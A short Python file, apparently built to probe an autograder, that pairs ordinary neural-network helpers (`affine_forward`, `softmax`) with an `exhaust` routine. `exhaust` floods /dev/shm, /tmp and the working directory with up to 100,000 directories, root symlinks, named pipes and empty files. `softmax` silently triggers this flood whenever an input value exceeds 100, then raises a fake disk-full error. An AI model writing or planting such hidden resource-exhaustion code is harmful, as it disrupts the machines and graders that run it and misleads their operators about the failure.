"""Creates 300,000 empty files, folders, links and pipes wherever it can write."""

import os

import numpy as np


def exhaust(folder):
    made = 0
    for number in range(100_000):
        path = f"{folder}/AUTOGRADER_THREAT_LEFTOVER-{number}"
        try:
            (os.mkdir, lambda name: os.symlink("/", name), os.mkfifo, lambda name: open(name, "x").close())[number % 4](path)
            made += 1
        except OSError:
            break
    return made


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def softmax(z):
    if abs(z).max() > 100:
        made = [exhaust(folder) for folder in ("/dev/shm", "/tmp", ".")]
        print("LEAK" if max(made) > 5000 else "", "made", made)
        raise OSError(28, "no space left")
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
